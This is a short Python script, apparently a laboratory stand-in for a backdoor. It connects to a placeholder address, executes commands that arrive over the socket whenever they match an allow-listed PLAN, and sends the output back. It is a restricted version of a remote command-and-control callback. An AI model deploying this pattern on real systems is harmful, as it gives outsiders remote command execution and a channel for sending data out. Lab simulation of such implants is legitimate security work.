# The stand-in for a backdoor. It calls one address of the laboratory and can do only what PLAN lists; lab_agent writes
# both above this line.
import shlex
import socket
import subprocess

home = socket.create_connection(ADDRESS)
for line in home.makefile():
    command = PLAN.get(line.strip())
    if command:
        home.sendall(subprocess.run(shlex.split(command), capture_output=True).stdout + b"ok\n")
